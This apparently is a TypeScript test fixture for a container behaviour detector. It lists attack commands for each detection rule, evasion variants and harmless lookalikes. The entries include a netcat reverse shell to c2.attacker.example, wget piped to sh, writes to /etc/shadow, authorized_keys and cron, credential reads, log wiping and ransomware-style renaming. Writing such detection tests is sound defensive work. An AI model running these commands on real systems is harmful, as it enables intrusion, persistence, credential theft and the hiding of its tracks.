/** One behaviour that a rule must tell, with what the report says of it. */
export interface InertAttack {
  readonly rule: string;
  /** Command of a shell, in a folder that may be written. */
  readonly command: string;
  /** Name of the process that does it. */
  readonly by: string;
  /** What the evidence says besides: the argument. */
  readonly argument: string;
}

const attack = (rule: string, command: string, by: string, argument: string): InertAttack => ({
  rule: `call-${rule}`,
  command,
  by,
  argument,
});

/** One for each of our own rules on calls. Addresses are those for documentation (RFC 5737), and nothing leads there. */
export const inertAttacks: readonly InertAttack[] = [
  attack('shell-at-connection', 'acts reverse-shell', 'sh', 'sh -c exit 0'),
  attack('shell-command', 'nc -w 1 c2.attacker.example 4444 -e /bin/sh </dev/null', 'nc', 'c2.attacker.example 4444'),
  attack('shell-below-server', 'nginx', 'sh', 'sh -c true; true'),
  attack('miner', '/opt/worker -o stratum+tcp://pool.example:3333', 'worker', 'stratum+tcp://pool.example:3333'),
  attack('pool-name', 'acts ask pool.minexmr.com', 'acts', 'pool.minexmr.com'),
  attack('pool-port', 'acts connect 203.0.113.7 3333', 'acts', '203.0.113.7:3333'),
  attack('tor', 'acts connect 127.0.0.1 9050', 'acts', '127.0.0.1:9050'),
  attack('dropped-program', 'cp /opt/acts payload; chmod +x payload; ./payload', 'payload', '/var/lib/work/payload'),
  attack('fetched-and-run', 'sh -c "wget -T 1 -qO- http://203.0.113.7/x | sh"', 'sh', 'wget -T 1 -qO-'),
  attack('program-from-temporary-folder', 'cp /opt/acts /tmp/x; /tmp/x', 'x', '/tmp/x'),
  attack('package-manager', 'apk add nmap', 'apk', 'apk add nmap'),
  attack('schedule-written', 'echo "* * * * * root true" > /etc/cron.d/x', 'start.sh', '/etc/cron.d/x'),
  attack('preload-written', ': > /etc/ld.so.preload', 'start.sh', '/etc/ld.so.preload'),
  attack('program-overwritten', 'echo y >> /usr/bin/tool', 'start.sh', '/usr/bin/tool'),
  attack('new-program', 'echo y > /usr/bin/new', 'start.sh', '/usr/bin/new'),
  attack('setuid-set', 'echo > suid; chmod u+s suid', 'chmod', '/var/lib/work/suid'),
  attack('authorized-keys', 'echo key >> /root/.ssh/authorized_keys', 'start.sh', '/root/.ssh/authorized_keys'),
  attack('passwords-written', 'echo x >> /etc/shadow', 'start.sh', '/etc/shadow'),
  attack('users-written', 'echo x:x:0:0::/: >> /etc/passwd', 'start.sh', '/etc/passwd'),
  attack('shell-start-written', 'echo x >> /root/.bashrc', 'start.sh', '/root/.bashrc'),
  attack('core-pattern', 'echo x > /proc/sys/kernel/core_pattern', 'start.sh', '/proc/sys/kernel/core_pattern'),
  attack('release-agent', 'echo x > release_agent', 'start.sh', 'release_agent'),
  attack('kernel-setting', 'echo 1 > /proc/sys/vm/drop_caches', 'start.sh', '/proc/sys/vm/drop_caches'),
  attack('engine-socket', 'acts connect-unix /var/run/docker.sock', 'acts', '/var/run/docker.sock'),
  attack('cloud-metadata', 'acts connect 169.254.169.254 80', 'acts', '169.254.169.254:80'),
  attack('host-device', 'acts device /dev/mem', 'acts', '/dev/mem'),
  attack('packet-socket', 'acts packets', 'acts', 'socket'),
  attack('memory-program', 'acts memory', 'memfd:x', '/memfd:x'),
  attack('self-delete', 'cp /opt/acts gone; ./gone self-delete /var/lib/work/gone', 'gone', '/var/lib/work/gone'),
  attack('environments-read', 'acts environments', 'acts', '/environ'),
  attack('process-injection', 'acts inject', 'acts', 'PTRACE_ATTACH'),
  attack('anti-debug', 'acts traceme', 'acts', 'PTRACE_TRACEME'),
  attack('long-pause', 'acts sleep', 'acts', 'tv_sec=600'),
  attack('mass-rewriting', 'for f in /srv/data/*; do mv $f $f.locked; done', 'mv', '/srv/data/'),
  attack('history-removed', 'rm /root/.bash_history', 'rm', '/root/.bash_history'),
  attack('logs-cleared', ': > /var/log/wtmp', 'start.sh', '/var/log/wtmp'),
  attack('shadow-read', 'cat /etc/shadow >/dev/null', 'cat', '/etc/shadow'),
  attack('credentials-read', 'cat /root/.ssh/id_rsa >/dev/null', 'cat', '/root/.ssh/id_rsa'),
  attack('network-tool', 'nmap -sS 192.0.2.0/24', 'nmap', 'nmap -sS 192.0.2.0/24'),
];

/** What the filter of Docker refuses before a tracer is asked: the report says that such calls are not seen. */
export const refusedAttacks: readonly InertAttack[] = [
  attack('kernel-module', 'acts module', 'acts', 'loaded a kernel module'),
  attack('mount', 'acts mount /var/lib/work', 'acts', '/var/lib/work'),
  attack('namespace', 'acts unshare', 'acts', 'CLONE_NEWUSER'),
];

/** The same by other ways than the straight one: what hides behind names, links, descriptors, threads and interpreters. */
export const hiddenAttacks: readonly Omit<InertAttack, 'by'>[] = [
  attack('schedule-written', 'acts double-fork /etc/cron.d/double-fork', '', '/etc/cron.d/double-fork'),
  attack('schedule-written', 'acts thread /etc/cron.d/thread', '', '/etc/cron.d/thread'),
  attack('schedule-written', 'acts vfork /etc/cron.d/vfork /opt/acts', '', '/etc/cron.d/vfork'),
  attack('schedule-written', 'acts clone /etc/cron.d/clone', '', '/etc/cron.d/clone'),
  attack('schedule-written', 'acts clone3 /etc/cron.d/clone3', '', '/etc/cron.d/clone3'),
  attack('schedule-written', 'acts write /proc/self/root/etc/cron.d/root', '', '/etc/cron.d/root'),
  attack('schedule-written', 'acts write /etc/./cron.d//dots', '', '/etc/cron.d/dots'),
  attack('schedule-written', 'acts relative /etc cron.d/relative', '', '/etc/cron.d/relative'),
  attack('schedule-written', 'acts below /etc/cron.d ./below', '', '/etc/cron.d/below'),
  attack('schedule-written', 'echo x > y; acts rename y /etc/cron.d/renamed', '', '/etc/cron.d/renamed'),
  attack('schedule-written', 'echo x > y; acts rename-at y /etc/cron.d renamed-at', '', '/etc/cron.d/renamed-at'),
  attack('schedule-written', 'acts unnamed /etc/cron.d /etc/cron.d/unnamed', '', '/etc/cron.d/unnamed'),
  attack('schedule-written', 'acts symlink /etc/cron.d folder; echo x > y; mv y folder/moved', '', '/etc/cron.d/moved'),
  attack('schedule-written', 'acts link /etc/cron.d/image second; echo x >> second', '', '/etc/cron.d/image'),
  attack('schedule-written', 'acts write "/etc/cron.d/a\nb\u001b[31m"', '', String.raw`/etc/cron.d/a b\x1b[31m`),
  attack('dropped-program', 'cp /opt/acts by-descriptor; acts exec-descriptor by-descriptor', '', 'by-descriptor'),
  attack('dropped-program', 'cp /opt/acts by-at; acts exec-at by-at', '', 'by-at'),
  attack('dropped-program', 'echo true > s.txt; sh -x ./s.txt 2>/dev/null', '', 'sh -x ./s.txt'),
  attack('dropped-program', 'echo true > t.txt; busybox sh t.txt', '', 'busybox sh t.txt'),
  attack('dropped-program', 'printf "#! /opt/acts nothing\n" > odd; chmod +x odd; ./odd', '', '/var/lib/work/odd'),
  attack('dropped-program', 'cp /opt/acts loaded; chmod +x loaded; /.s/ld.so ./loaded', '', './loaded'),
  attack('memory-program', 'acts memory proc', '', '/memfd:x'),
  attack('memory-program', 'acts memory-at', '', '/memfd:x'),
  attack('miner', `/opt/worker ${'x'.repeat(3000)} -o stratum+tcp://pool.example:3333`, '', '/opt/worker'),
  attack('process-injection', 'acts trace-tracer', '', 'PTRACE_ATTACH'),
];

/** What stands beside each of them, and nobody has to be told of. */
export const harmlessNeighbours: readonly string[] = [
  'sh -c "exit 0"',
  'cat /etc/passwd /etc/os-release > /dev/null',
  'cat /proc/self/environ /proc/self/status /proc/meminfo > /dev/null',
  'cat /etc/cron.d/image /root/.bash_history > /dev/null',
  'mkdir -p /var/log/app; echo started >> /var/log/app/app.log',
  'echo "pid 1" > /run.pid; mv /run.pid /var/lib/work/app.pid',
  'echo "debug = no" > app.conf.new; mv app.conf.new /etc/app.conf',
  'echo x > /tmp/session; cat /tmp/session > /dev/null; rm /tmp/session',
  'touch /root/.config; chmod 600 /root/.config',
  'chmod 2755 /var/lib/work',
  // A package manager brings a program, and what it starts by itself.
  'dpkg run /bin/sh -c "cp /opt/acts /usr/bin/installed; chmod +x /usr/bin/installed; /usr/bin/installed nothing"',
  'acts connect 127.0.0.1 8080',
  'acts connect 10.0.0.3 5432',
  'acts connect-unix /var/run/nscd/socket',
  'acts ask pool.ntp.org',
  'acts thread /var/lib/work/thread',
  'acts vfork /var/lib/work/vfork /opt/acts',
  'acts double-fork /var/lib/work/double-fork',
  'cat /proc/sys/kernel/core_pattern /proc/sys/vm/overcommit_memory > /dev/null',
  'acts symlink /var/lib/work /tmp/work; echo x > /tmp/work/y',
  'sleep 1',
  'for n in 1 2 3 4 5 6 7 8 9 10 11 12; do echo x > out.$n; mv out.$n done.$n; done',
  'nc -z 127.0.0.1 5432',
];
